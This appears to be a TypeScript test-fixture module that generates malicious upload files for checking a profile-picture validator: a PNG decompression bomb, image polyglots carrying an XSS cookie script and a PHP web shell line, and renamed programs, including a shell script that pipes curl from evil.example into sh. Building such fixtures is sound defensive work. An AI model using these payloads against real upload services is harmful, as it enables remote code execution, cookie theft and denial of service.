import { crc32, createDeflate } from 'node:zlib';
import sharp from 'sharp';

// Files an attacker uploads as a profile picture: images that decompress to far more than they
// weigh, images carrying scripts, and programs wearing an image's name.

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * A real RGB PNG of width x height black pixels: every row is there, deflated, so a decoder that
 * believes the header has width x height x 3 bytes to fill. 6000 x 6000 weighs about 100 KB and
 * decodes to about 108 MB.
 */
export async function pngBomb(width: number, height: number, extraChunks: Buffer[] = []): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8 bits, truecolour, deflate, no filter method, no interlace
  const row = Buffer.alloc(1 + width * 3); // filter byte 0, then black
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (c: Buffer) => parts.push(c));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  for (let y = 0; y < height; y += 1) if (!deflate.write(row)) await new Promise((r) => deflate.once('drain', r));
  deflate.end();
  await done;
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    ...extraChunks,
    pngChunk('IDAT', Buffer.concat(parts)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const SCRIPT = '<script>alert(document.cookie)</script>';
export const PHP = '<?php system($_GET["c"]); ?>';

/** A valid PNG that also carries a script and PHP in a text chunk (polyglot). */
export const pngWithScriptChunk = async () => pngBomb(32, 32, [pngChunk('tEXt', Buffer.from(`Comment\0${SCRIPT}${PHP}`, 'latin1'))]);

/** A valid JPEG with HTML in a comment segment right after SOI: browsers sniffing HTML would find it early. */
export async function jpegWithHtmlComment(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 40, height: 40, channels: 3, background: '#446688' } })
    .jpeg()
    .toBuffer();
  const html = Buffer.from(`<html><body>${SCRIPT}</body></html>`);
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0); // COM
  segment.writeUInt16BE(html.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, html, jpeg.subarray(2)]);
}

/** A JPEG cut off half-way: a valid start, then nothing. */
export const truncatedJpeg = async () => {
  const jpeg = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#aa3300' } })
    .jpeg()
    .toBuffer();
  return jpeg.subarray(0, Math.floor(jpeg.length / 2));
};

/** Programs and documents renamed to .png/.jpg. */
export const disguised: [string, Buffer][] = [
  ['an ELF binary', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(4096, 0x90)])],
  ['a shell script', Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n')],
  ['an HTML page', Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`)],
  ['an SVG with a script', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`)],
  ['a ZIP archive', Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(512, 0x41)])],
  ['a PDF', Buffer.from('%PDF-1.7\n1 0 obj << /JavaScript (app.alert(1)) >> endobj\n')],
];
